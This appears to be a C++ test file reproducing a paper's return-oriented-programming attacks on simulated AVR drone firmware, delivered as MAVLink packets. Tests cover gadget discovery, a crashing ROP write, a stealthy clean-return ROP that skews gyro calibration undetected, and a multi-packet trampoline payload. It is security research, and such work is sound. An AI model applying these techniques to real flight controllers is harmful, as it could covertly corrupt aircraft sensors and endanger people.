// End-to-end reproduction of paper §IV: gadget discovery, traditional ROP
// (V1), stealthy ROP with clean return (V2) and the trampoline attack (V3),
// all delivered as MAVLink packets from a (malicious) ground station.
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using attack::AttackPlan;
using attack::Write3;

class StealthyAttackTest : public ::testing::Test {
 protected:
  static const firmware::Firmware& fw() {
    static firmware::Firmware fw = firmware::generate(
        firmware::testapp(/*vulnerable=*/true),
        toolchain::ToolchainOptions::mavr());
    return fw;
  }
  static const AttackPlan& plan() {
    static AttackPlan plan = attack::analyze(fw().image);
    return plan;
  }

  void boot() {
    board_.flash_image(fw().image.bytes);
    board_.run_cycles(300'000);
    ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  }

  std::uint8_t ram(std::uint16_t addr) const {
    return board_.cpu().data().raw(addr);
  }

  sim::Board board_;
};

TEST_F(StealthyAttackTest, FindsThePaperGadgets) {
  const AttackPlan& p = plan();
  EXPECT_FALSE(p.stk.pops.empty());
  EXPECT_GE(p.wm.pops.size(), 16u);  // r29, r28, r17..r4 (Fig. 5)
  EXPECT_EQ(p.wm.pops[0], 29);
  EXPECT_EQ(p.wm.pops[1], 28);
  EXPECT_GT(p.census.ret_gadgets, 50u);
  EXPECT_GT(p.gyro_cal_addr, 0u);
}

TEST_F(StealthyAttackTest, ProbeMatchesStaticLayout) {
  const attack::VictimFrame& f = plan().frame;
  EXPECT_EQ(f.frame_bytes, firmware::kVulnFrameBytes);
  EXPECT_EQ(f.buffer_addr, f.p - f.frame_bytes - 1);
  // The pushed return address must point back into mav_handle's body.
  const std::uint32_t ret_words = (std::uint32_t{f.ret_bytes[0]} << 16) |
                                  (std::uint32_t{f.ret_bytes[1]} << 8) |
                                  f.ret_bytes[2];
  const toolchain::Symbol* handle = fw().image.find("mav_handle");
  ASSERT_NE(handle, nullptr);
  EXPECT_GE(ret_words * 2, handle->addr);
  EXPECT_LT(ret_words * 2, handle->addr + handle->size);
}

TEST_F(StealthyAttackTest, V1WritesMemoryButCrashesTheBoard) {
  boot();
  sim::GroundStation gcs(board_);
  const Write3 write{plan().gyro_cal_addr, {0xD1, 0x07, 0x00}};
  gcs.send_raw_param_set(plan().builder().v1_payload(write));
  board_.run_cycles(4'000'000);

  // The write landed...
  EXPECT_EQ(ram(plan().gyro_cal_addr), 0xD1);
  EXPECT_EQ(ram(plan().gyro_cal_addr + 1), 0x07);
  // ...but the smashed stack killed the victim: the feed line goes quiet
  // (detectable from the master / ground station).
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(2'000'000);
  EXPECT_EQ(board_.feed_line().write_count(), feeds);
}

TEST_F(StealthyAttackTest, V2WritesMemoryAndReturnsCleanly) {
  boot();
  sim::GroundStation gcs(board_);
  board_.run_cycles(500'000);
  gcs.poll();
  const std::uint64_t packets_before_attack = gcs.packets_received();

  const Write3 write{plan().gyro_cal_addr, {0x34, 0x12, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);

  // Sensor calibration skewed...
  EXPECT_EQ(ram(plan().gyro_cal_addr), 0x34);
  EXPECT_EQ(ram(plan().gyro_cal_addr + 1), 0x12);
  // ...and the victim keeps flying: no fault, watchdog still fed,
  // telemetry still streaming and parseable.
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(1'000'000);
  EXPECT_GT(board_.feed_line().write_count(), feeds);
  gcs.poll();
  EXPECT_GT(gcs.packets_received(), packets_before_attack);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(StealthyAttackTest, V2VictimStillHandlesMessagesAfterAttack) {
  boot();
  sim::GroundStation gcs(board_);
  const Write3 write{plan().gyro_cal_addr, {0x34, 0x12, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);
  ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);

  // The repaired stack must support normal message handling afterwards.
  const toolchain::DataSymbol* hb = fw().image.find_data("g_hb_count");
  ASSERT_NE(hb, nullptr);
  const std::uint8_t before = ram(hb->ram_addr);
  gcs.send_heartbeat();
  board_.run_cycles(1'500'000);
  EXPECT_EQ(ram(hb->ram_addr), static_cast<std::uint8_t>(before + 1));
}

TEST_F(StealthyAttackTest, V2AffectsTelemetryStealthily) {
  boot();
  sim::GroundStation gcs(board_);
  board_.set_gyro(0, 100);
  board_.run_cycles(2'000'000);
  gcs.poll();
  ASSERT_TRUE(gcs.last_imu().has_value());
  EXPECT_EQ(gcs.last_imu()->xgyro, 100);

  // Skew the calibration by +0x0200 counts.
  const Write3 write{plan().gyro_cal_addr, {0x00, 0x02, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);
  gcs.poll();
  ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  EXPECT_EQ(gcs.last_imu()->xgyro, 100 + 0x0200);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(StealthyAttackTest, V3StagesAndExecutesLargePayload) {
  boot();
  sim::GroundStation gcs(board_);

  // A payload beyond what one 96-byte buffer can carry: rewrite the whole
  // 12-byte calibration + setpoint block in one staged chain, delivered as
  // dozens of clean-return staging packets plus one trigger (paper §IV-E).
  const toolchain::DataSymbol* cal = fw().image.find_data("g_gyro_cal");
  const toolchain::DataSymbol* setpoint = fw().image.find_data("g_setpoint");
  ASSERT_NE(cal, nullptr);
  ASSERT_NE(setpoint, nullptr);
  ASSERT_EQ(setpoint->ram_addr, cal->ram_addr + 6);  // contiguous block
  std::vector<Write3> writes;
  for (std::uint16_t i = 0; i < 4; ++i) {
    writes.push_back(Write3{static_cast<std::uint16_t>(cal->ram_addr + i * 3),
                            {static_cast<std::uint8_t>(0x40 + i),
                             static_cast<std::uint8_t>(0x50 + i),
                             static_cast<std::uint8_t>(0x60 + i)}});
  }
  // One V2 packet cannot carry this chain...
  EXPECT_GT(writes.size(), plan().builder().v2_write_capacity());

  const std::uint16_t staging = 0x1B00;  // unused high SRAM
  const auto packets = plan().builder().v3_payloads(staging, writes);
  EXPECT_GT(packets.size(), 3u);  // staging really is multi-packet

  for (const auto& packet : packets) {
    gcs.send_raw_param_set(packet);
    board_.run_cycles(4'000'000);
    ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  }
  for (std::uint16_t i = 0; i < 4; ++i) {
    EXPECT_EQ(ram(cal->ram_addr + i * 3), 0x40 + i);
    EXPECT_EQ(ram(cal->ram_addr + i * 3 + 1), 0x50 + i);
    EXPECT_EQ(ram(cal->ram_addr + i * 3 + 2), 0x60 + i);
  }
  // Still flying, still feeding, still talking.
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(1'000'000);
  EXPECT_GT(board_.feed_line().write_count(), feeds);
}

/// The probe as it ran before breakpoints: a per-instruction retire hook
/// on the fully traced interpreter, capturing the first arrival at the
/// handler entry and flying the whole 3M-cycle budget.
attack::VictimFrame traced_full_budget_probe(const toolchain::Image& image,
                                             std::uint32_t handler_byte_addr,
                                             std::uint16_t frame_bytes) {
  struct RetireProbe : avr::Tracer {
    RetireProbe(std::uint32_t entry, attack::VictimFrame& frame)
        : entry(entry), frame(frame) {}
    void on_retire(const avr::Cpu& cpu, std::uint32_t, const avr::Instr&,
                   std::uint32_t) override {
      if (captured || cpu.pc() != entry) return;
      captured = true;
      frame.p = cpu.sp();
      for (unsigned r = 0; r < 32; ++r) frame.regs_at_entry[r] = cpu.reg(r);
      for (unsigned i = 0; i < 3; ++i) {
        frame.ret_bytes[i] = cpu.data().raw(frame.p + 1 + i);
      }
    }
    std::uint32_t entry;
    attack::VictimFrame& frame;
    bool captured = false;
  };
  sim::Board replica;
  replica.flash_image(image.bytes);
  replica.run_cycles(300'000);
  sim::GroundStation gcs(replica);
  gcs.send_param_set(mavlink::ParamSet{});
  attack::VictimFrame frame;
  frame.frame_bytes = frame_bytes;
  RetireProbe probe(handler_byte_addr / 2, frame);
  replica.cpu().set_tracer(&probe);
  replica.run_cycles(3'000'000);
  replica.cpu().set_tracer(nullptr);
  EXPECT_TRUE(probe.captured);
  frame.buffer_addr = static_cast<std::uint16_t>(frame.p - frame_bytes - 1);
  frame.ram_end = static_cast<std::uint16_t>(replica.cpu().spec().ramend());
  return frame;
}

TEST(ProbeVictim, BreakpointProbeMatchesFullBudgetTracedProbe) {
  // probe_victim stops on the tier at its entry breakpoint; the frame it
  // captures must be the one the per-instruction traced probe recorded.
  for (const firmware::AppProfile& profile :
       {firmware::testapp(/*vulnerable=*/true),
        firmware::arduplane(/*vulnerable=*/true)}) {
    SCOPED_TRACE(profile.name);
    const firmware::Firmware fw =
        firmware::generate(profile, toolchain::ToolchainOptions::mavr());
    const toolchain::Symbol* handler = fw.image.find("h_param_set");
    ASSERT_NE(handler, nullptr);
    const std::uint16_t frame_bytes =
        attack::parse_frame_bytes(fw.image, handler->addr);
    const attack::VictimFrame got =
        attack::probe_victim(fw.image, handler->addr, frame_bytes);
    const attack::VictimFrame want =
        traced_full_budget_probe(fw.image, handler->addr, frame_bytes);
    EXPECT_EQ(got.p, want.p);
    EXPECT_EQ(got.frame_bytes, want.frame_bytes);
    EXPECT_EQ(got.buffer_addr, want.buffer_addr);
    EXPECT_EQ(got.ram_end, want.ram_end);
    EXPECT_EQ(got.regs_at_entry, want.regs_at_entry);
    EXPECT_EQ(got.ret_bytes, want.ret_bytes);
  }
}

}  // namespace
}  // namespace mavr
